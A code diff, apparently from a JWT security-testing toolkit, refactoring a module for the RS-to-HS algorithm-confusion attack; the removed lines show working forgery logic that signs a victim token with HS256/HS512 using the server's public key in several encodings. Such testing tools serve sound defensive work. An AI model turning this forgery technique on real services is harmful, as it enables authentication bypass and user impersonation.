@@ -1,5 +1,4 @@
-import { createPublicKey } from 'node:crypto'
-import { assembleWithHmac, readToken } from '../../kit/forge-token.ts'
+import { hmacsWith, publicKeyEncodings } from '../../kit/public-key-encodings.ts'
 import { tokenAttack } from '../../kit/token-attack.ts'
 
 export default tokenAttack({
@@ -14,30 +13,5 @@ export default tokenAttack({
   references: ['RFC 8725 section 3.1', 'ASVS V9.1.2', 'CVE-2015-9235', 'CVE-2016-10555', 'CVE-2022-23541'],
   provenBy: 'rs-hs',
   needs: ['publicKey'],
-  forge({ publicKey, victim }) {
-    const { header, payload } = readToken(victim.token)
-    return secretsOf(publicKey).flatMap(([name, secret]) =>
-      (['HS256', 'HS512'] as const).map((alg) => ({
-        name: `${alg} with the public key as ${name}`,
-        token: assembleWithHmac({ ...header, alg }, payload, secret, `sha${alg.slice(2)}`),
-      })),
-    )
-  },
+  forge: ({ publicKey, victim }) => hmacsWith(victim.token, publicKeyEncodings(publicKey)),
 })
-
-function secretsOf(pem: string): [name: string, secret: Buffer | string][] {
-  const key = createPublicKey(pem)
-  const spki = key.export({ type: 'spki', format: 'pem' }).toString()
-  const encodings: [string, Buffer | string][] = [
-    ['PEM as given', pem],
-    ['PEM with a final newline', `${spki.trim()}\n`],
-    ['PEM without a final newline', spki.trim()],
-    ['PEM with CRLF', `${spki.trim().replaceAll('\n', '\r\n')}\r\n`],
-    ['DER', key.export({ type: 'spki', format: 'der' })],
-    ['JWK', JSON.stringify(key.export({ format: 'jwk' }))],
-  ]
-  if (key.asymmetricKeyType === 'rsa')
-    encodings.push(['PKCS#1 PEM', key.export({ type: 'pkcs1', format: 'pem' }).toString()])
-  const distinct = new Map(encodings.map(([name, secret]) => [secret.toString('latin1' as never), { name, secret }]))
-  return [...distinct.values()].map(({ name, secret }) => [name, secret])
-}
